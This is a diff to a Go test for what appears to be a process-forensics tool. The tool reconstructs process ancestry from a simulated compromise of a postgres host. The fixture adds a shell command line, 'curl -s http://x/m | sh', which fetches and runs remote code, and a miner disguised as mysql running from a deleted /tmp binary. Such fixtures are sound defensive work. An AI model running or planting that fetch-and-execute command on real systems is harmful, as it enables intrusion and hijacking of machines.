@@ -34,7 +34,7 @@ func TestProcessEventsAncestryAndReuse(t *testing.T) {
 	data := jsonl(t,
 		Process{PID: 1, Status: StatusOK, Comm: "systemd", Start: at(0), StartTicks: 1},
 		Process{PID: 700, PPID: 1, Status: StatusOK, Comm: "postgres", Exe: "/usr/lib/postgresql/15/bin/postgres", Start: at(10), StartTicks: 1000},
-		Process{PID: 4242, PPID: 700, Status: StatusOK, Comm: "sh", Start: at(100), StartTicks: 10000, UIDs: []uint32{105, 105, 105, 105}, UserNames: []string{"postgres", "postgres", "postgres", "postgres"}},
+		Process{PID: 4242, PPID: 700, Status: StatusOK, Comm: "sh", Cmdline: []string{"sh", "-c", "curl -s http://x/m | sh"}, Cwd: "/var/lib/postgresql/15/main", Start: at(100), StartTicks: 10000, UIDs: []uint32{105, 105, 105, 105}, UserNames: []string{"postgres", "postgres", "postgres", "postgres"}},
 		Process{PID: 4300, PPID: 4242, Status: StatusOK, Comm: "mysql", Exe: "/tmp/mysql (deleted)", ExeDeleted: true, Suspect: []string{"exe deleted", "exe under /tmp"}, Start: at(120), StartTicks: 12000},
 		// Its parent PID 900 started after it: PID reuse, not its parent.
 		Process{PID: 900, PPID: 1, Status: StatusOK, Comm: "cron", Start: at(500), StartTicks: 50000},
@@ -59,8 +59,11 @@ func TestProcessEventsAncestryAndReuse(t *testing.T) {
 		t.Fatalf("%d events, warnings %+v; want 6 and one (the vanished process)", len(res.Events), res.Warnings)
 	}
 	m := byPID[4300]
-	if m.Process.Parent == nil || m.Process.Parent.PID != 4242 || m.Process.Parent.EntityID != "4242@10000" {
+	if m.Process.Parent == nil || m.Process.Parent.PID != 4242 || m.Process.Parent.EntityID != "4242@10000" || m.Process.Parent.CommandLine != "sh -c curl -s http://x/m | sh" {
 		t.Errorf("miner parent %+v", m.Process.Parent)
+	}
+	if sh := byPID[4242]; sh.Process.WorkingDir != "/var/lib/postgresql/15/main" {
+		t.Errorf("sh working directory %q", sh.Process.WorkingDir)
 	}
 	if got, want := m.Labels["ancestry"], "4300:mysql < 4242:sh < 700:postgres < 1:systemd"; got != want {
 		t.Errorf("ancestry %q, want %q", got, want)
